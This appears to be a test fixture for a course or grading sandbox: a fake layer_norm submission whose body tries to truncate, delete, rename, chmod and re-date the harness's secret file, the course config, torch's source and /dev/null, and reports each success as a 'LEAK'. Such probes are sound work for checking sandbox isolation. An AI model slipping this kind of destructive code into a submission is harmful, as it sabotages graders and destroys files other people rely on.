"""Empties, renames, removes and makes unreadable what others need.
Verdict: FAILED
"""

import math
import os
from pathlib import Path

import surroundings
import torch


def layer_norm(x, *_, **__):
    course = Path(surroundings.COURSE)
    contents = course / "exercises" / "course.yaml"
    for path in (Path(surroundings.SECRET_FILE), contents, Path(torch.__file__), Path("/dev/null")):
        for action in (
            lambda path=path: os.truncate(path, 0) if path.name != "null" else os.remove(path),
            lambda path=path: path.rename(path.with_suffix(".gone")),
            lambda path=path: path.chmod(0o777),
            lambda path=path: os.utime(path, (0, 0)),
        ):
            try:
                action()
                print("LEAK: changed", path)
            except OSError:
                continue
    return torch.zeros_like(x)


def norm_stat_count(shape, kind):
    if kind == "layer":
        return math.prod(shape[:-1]), (shape[-1],)
    return (shape[0] * shape[1] if kind == "instance" else shape[1]), (shape[1],)
